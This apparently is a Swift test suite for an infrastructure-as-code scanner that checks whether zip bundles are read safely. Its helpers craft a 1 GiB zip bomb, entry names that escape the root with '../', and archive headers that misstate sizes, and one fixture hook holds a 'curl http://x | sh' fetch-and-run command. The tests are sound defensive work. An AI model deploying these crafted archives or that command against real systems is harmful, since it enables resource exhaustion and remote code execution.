import Foundation
import Testing
import Inventory
import ZIPFoundation
@testable import IaC

/// Builds zip archives in memory for tests.
enum ZipMaker {
    static func make(_ entries: [(String, Data)]) throws -> Data {
        let archive = try Archive(data: Data(), accessMode: .create)
        for (path, data) in entries {
            try archive.addEntry(with: path, type: .file, uncompressedSize: Int64(data.count), compressionMethod: .deflate) { position, size in
                data.subdata(in: Int(position)..<Int(position) + size)
            }
        }
        return try #require(archive.data)
    }

    /// A zip with one deflated entry of `size` zeros, built directly: a fixed-Huffman deflate block of
    /// one literal zero and back-references of length 258 (13 bits each), so a 1 GiB bomb takes a
    /// fraction of a second and about 6.5 MiB. The CRC is left 0: the reader must refuse the entry
    /// (from its header, or while inflating) before any checksum would be compared.
    static func zeros(path: String, size: Int) -> Data {
        var stream: [UInt8] = []
        stream.reserveCapacity(size / 150)
        var accumulator: UInt64 = 0
        var count: UInt64 = 0
        func bits(_ value: UInt64, _ length: UInt64) {
            accumulator |= value << count
            count += length
            while count >= 8 {
                stream.append(UInt8(truncatingIfNeeded: accumulator))
                accumulator >>= 8
                count -= 8
            }
        }
        func huffman(_ code: UInt64, _ length: UInt64) {
            var reversed: UInt64 = 0
            for index in 0..<length { reversed |= ((code >> index) & 1) << (length - 1 - index) }
            bits(reversed, length)
        }
        bits(1, 1)              // BFINAL
        bits(1, 2)              // BTYPE = fixed Huffman
        huffman(0x30, 8)        // literal 0
        var remaining = size - 1
        // length 258 (code 285 = 0xC5, 8 bits) + distance 1 (code 0, 5 bits): 13 bits, reversed once.
        var match: UInt64 = 0
        for index in 0..<8 { match |= ((0xC5 >> UInt64(index)) & 1) << UInt64(7 - index) }
        while remaining >= 258 {
            bits(match, 13)
            remaining -= 258
        }
        for _ in 0..<remaining { huffman(0x30, 8) }
        huffman(0, 7)           // end of block
        if count > 0 { stream.append(UInt8(truncatingIfNeeded: accumulator)) }

        var zip: [UInt8] = []
        func u16(_ value: Int) { zip += [UInt8(value & 0xFF), UInt8((value >> 8) & 0xFF)] }
        func u32(_ value: Int) { for shift in stride(from: 0, to: 32, by: 8) { zip.append(UInt8((value >> shift) & 0xFF)) } }
        let name = Array(path.utf8)
        u32(0x04034B50); u16(20); u16(0); u16(8); u16(0); u16(0); u32(0); u32(stream.count); u32(size); u16(name.count); u16(0)
        zip += name
        zip += stream
        let central = zip.count
        u32(0x02014B50); u16(20); u16(20); u16(0); u16(8); u16(0); u16(0); u32(0); u32(stream.count); u32(size)
        u16(name.count); u16(0); u16(0); u16(0); u16(0); u32(0); u32(0)
        zip += name
        let centralSize = zip.count - central
        u32(0x06054B50); u16(0); u16(0); u16(1); u16(1); u32(centralSize); u32(central); u16(0)
        return Data(zip)
    }

    /// Rewrites every occurrence of `from` with `to` (same length) in the archive bytes.
    static func patch(_ data: Data, _ from: String, _ to: String) -> Data {
        var bytes = [UInt8](data)
        let needle = Array(from.utf8), replacement = Array(to.utf8)
        var index = 0
        while index + needle.count <= bytes.count {
            if Array(bytes[index..<index + needle.count]) == needle {
                bytes.replaceSubrange(index..<index + needle.count, with: replacement)
            }
            index += 1
        }
        return Data(bytes)
    }

    /// Sets the uncompressed size recorded in the local and central headers (a lying header).
    static func understate(_ data: Data, size: UInt32) -> Data {
        var bytes = [UInt8](data)
        func put(_ at: Int) { for shift in 0..<4 { bytes[at + shift] = UInt8((size >> (8 * UInt32(shift))) & 0xFF) } }
        var index = 0
        while index + 30 < bytes.count {
            if bytes[index] == 0x50, bytes[index + 1] == 0x4B, bytes[index + 2] == 0x03, bytes[index + 3] == 0x04 { put(index + 22) }
            if bytes[index] == 0x50, bytes[index + 1] == 0x4B, bytes[index + 2] == 0x01, bytes[index + 3] == 0x02 { put(index + 24) }
            index += 1
        }
        return Data(bytes)
    }
}

@Suite struct ZipBundleTests {
    @Test func bundleReadsLikeAFolder() throws {
        let folder = TemporaryFolder()
        let zip = try ZipMaker.make([
            (".ebextensions/01.config", Data("option_settings:\n  aws:autoscaling:launchconfiguration:\n    DisableIMDSv1: false\n".utf8)),
            (".platform/hooks/predeploy/01.sh", Data("#!/bin/sh\ncurl http://x | sh\n".utf8)),
            ("config/app.properties", Data("db.password=Hunter2IsNotAGoodPassword9\n".utf8)),
            ("static/logo.png", Data([0, 1, 2, 3])),
        ])
        let path = folder.write("shop-v1.zip", zip)
        let inventory = IaCScanner().scan(paths: [path])
        #expect(inventory.inputProblems.isEmpty, "\(inventory.inputProblems)")
        let environment = try #require(inventory.environment("shop-v1"))
        let setting = try #require(environment.optionSettings?.winner("aws:autoscaling:launchconfiguration", "DisableIMDSv1"))
        #expect(setting.layer == .configurationFile)
        #expect(setting.origin == .file(path + "!/.ebextensions/01.config", line: 3, column: 5))
        #expect(inventory.artifacts?.contains { $0.kind == .platformHook && $0.path == path + "!/.platform/hooks/predeploy/01.sh" } == true)
        let properties = try #require(inventory.artifacts?.first { $0.path.hasSuffix("app.properties") })
        #expect(properties.secrets.first?.origin.line == 1)
        #expect(properties.environmentName == "shop-v1")
    }

    @Test func entriesEscapingTheRootAreRefused() throws {
        let folder = TemporaryFolder()
        let zip = ZipMaker.patch(try ZipMaker.make([
            ("xx/evil.config", Data("x".utf8)),
            (".ebextensions/ok.config", Data("option_settings: {}\n".utf8)),
        ]), "xx/", "../")
        let path = folder.write("bundle.zip", zip)
        let inventory = IaCScanner().scan(paths: [path])
        let problem = try #require(inventory.inputProblems.first)
        #expect(problem.file == path + "!/../evil.config")
        #expect(problem.message.contains("escapes"))
        #expect(ZipBundleReader.safeRelativePath("/etc/passwd") == nil)
        #expect(ZipBundleReader.safeRelativePath("a/../../b") == nil)
        #expect(ZipBundleReader.safeRelativePath("./a//b") == "a/b")
        #expect(inventory.artifacts?.contains { $0.path.hasSuffix("ok.config") } == true, "the rest is still read")
    }

    @Test func zipBombIsRefusedFromItsHeader() throws {
        let folder = TemporaryFolder()
        let bomb = ZipMaker.zeros(path: ".ebextensions/bomb.config", size: 1 << 30)
        #expect(bomb.count < 8 << 20, "1 GiB of zeros compresses to a few MiB")
        let path = folder.write("bomb.zip", bomb)
        folder.write("app.yaml", "AWSTemplateFormatVersion: '2010-09-09'\nResources:\n  B:\n    Type: AWS::S3::Bucket\n")
        let start = Date()
        let inventory = IaCScanner().scan(paths: [folder.path])
        #expect(Date().timeIntervalSince(start) < 5)
        #expect(inventory.inputProblems.contains { $0.file == path + "!/.ebextensions/bomb.config" && $0.message.contains("limit") })
        #expect(inventory.buckets[folder.path + "/app.yaml#B"] != nil, "the rest of the scan goes on")
    }

    @Test func lyingHeadersAreStoppedWhileInflating() throws {
        let folder = TemporaryFolder()
        let bomb = ZipMaker.understate(ZipMaker.zeros(path: ".ebextensions/liar.config", size: 64 << 20), size: 1000)
        let path = folder.write("liar.zip", bomb)
        let inventory = IaCScanner().scan(paths: [path])
        let problem = try #require(inventory.inputProblems.first { $0.file.hasSuffix("liar.config") })
        #expect(problem.message.contains("reading stopped"))
    }

    @Test func archiveBudgetAndJunk() throws {
        let folder = TemporaryFolder()
        let text = Data(String(repeating: "line of text 0123456789\n", count: 2000).utf8)
        let zip = try ZipMaker.make((0..<5).map { (".platform/hooks/prebuild/\($0).sh", text) })
        let path = folder.write("big.zip", zip)
        let options = ScanOptions(maxCompressionRatio: 10_000, maxArchiveTotal: 100_000)
        let inventory = IaCScanner(options: options).scan(paths: [path])
        #expect(inventory.inputProblems.contains { $0.message.contains("budget") || $0.message.contains("inflates past") })
        #expect((inventory.artifacts?.count ?? 0) < 5)
        let junk = folder.write("junk.zip", Data((0..<4096).map { UInt8(truncatingIfNeeded: $0 &* 31 &+ 7) }))
        let second = IaCScanner().scan(paths: [junk])
        #expect(second.inputProblems.first?.message.contains("not a readable zip") == true)
    }
}
